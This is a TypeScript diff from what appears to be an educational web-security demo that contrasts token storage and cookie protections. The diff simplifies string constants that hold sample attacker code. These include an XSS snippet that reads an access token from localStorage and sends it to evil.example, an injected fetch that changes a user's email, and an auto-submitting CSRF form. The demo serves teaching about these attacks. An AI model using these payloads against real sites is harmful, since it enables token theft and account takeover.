@@ -87,27 +87,24 @@ const EVIL_EMAIL = 'email=mallory%40evil.example';
 const refreshBody = (token: string | undefined): string =>
   `grant_type=refresh_token&refresh_token=${token ?? ''}`;
 
-/** What the attackers' code looks like, shown beside the steps it drives. */
-const XSS_READ = `// injected into a page of app.example (XSS)
-const t = localStorage.getItem('access_token');
+/**
+ * What the attackers' code looks like, shown beside the steps it drives. Code only, no prose, so
+ * it reads the same in both languages; the heading above it says where it runs.
+ */
+const XSS_READ = `const t = localStorage.getItem('access_token');
 new Image().src = 'https://evil.example/c?t=' + t;`;
-const XSS_COOKIE = `// injected into a page of app.example (XSS)
-document.cookie   // → ""  (HttpOnly cookies are hidden from scripts)`;
-const XSS_FETCH = `// injected into a page of app.example (XSS)
-fetch('/settings', {
+const XSS_COOKIE = `document.cookie   // → ""`;
+const XSS_FETCH = `fetch('/settings', {
   method: 'POST',
   headers: { 'Content-Type': 'application/x-www-form-urlencoded' },
   body: 'email=mallory%40evil.example',
 });`;
-const CSRF_FORM = `<!-- a page on https://evil.example that alice opens -->
-<form method="POST" action="https://app.example/settings">
+const CSRF_FORM = `<form method="POST" action="https://app.example/settings">
   <input name="email" value="mallory@evil.example">
 </form>
 <script>document.forms[0].submit()</script>`;
-const CSRF_IMG = `<!-- a page on https://evil.example: a subrequest, not a navigation -->
-<img src="https://app.example/profile">`;
-const CSRF_LINK = `<!-- a page on https://evil.example -->
-<a href="https://app.example/profile">See your profile</a>`;
+const CSRF_IMG = `<img src="https://app.example/profile">`;
+const CSRF_LINK = `<a href="https://app.example/profile">app.example/profile</a>`;
 const GROWTH = [10, 100, 1000, 10000];
 
 /** Records steps over a world. */
